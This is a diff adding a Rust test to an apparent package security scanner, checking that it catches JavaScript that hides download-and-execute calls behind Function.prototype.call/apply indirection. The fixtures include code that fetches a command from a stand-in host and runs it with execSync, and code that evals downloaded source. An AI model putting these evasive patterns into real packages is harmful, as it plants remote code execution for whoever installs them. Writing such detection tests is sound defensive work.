@@ -420,6 +420,36 @@ mod tests {
         );
     }
 
+    /// Calls hidden behind `Function.prototype.call.call` / `Function.prototype.apply.call`:
+    /// a downloaded command to `execSync` in an async function, downloaded source to `eval` in a
+    /// class method; the benign look-alike parses the download the same way.
+    #[test]
+    fn function_prototype_call_indirection() {
+        let js = "const cp = require('child_process');\nmodule.exports = async function sync() {\n  const cmd = await (await fetch('https://cfg.example.net/cmd')).text();\n  return Function.prototype.call.call(cp.execSync, null, cmd);\n};\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("index.js".to_string(), 4)]
+        );
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+        let js = "const https = require('https');\nclass Plugin {\n  load() {\n    https.get('https://cdn.example.net/p.js', (r) => {\n      let src = '';\n      r.on('data', (d) => (src += d));\n      r.on('end', () => Function.prototype.apply.call(eval, null, [src]));\n    });\n  }\n}\nmodule.exports = Plugin;\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("index.js".to_string(), 7)]
+        );
+        let js = "module.exports = async function cfg() {\n  const body = await (await fetch('https://cfg.example.net/c.json')).text();\n  return Function.prototype.call.call(JSON.parse, null, body);\n};\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
     /// `process.binding('spawn_sync')`, the binding under `child_process`, spawning a command
     /// received from the network; a read-only use of another binding is not a spawn.
     #[test]
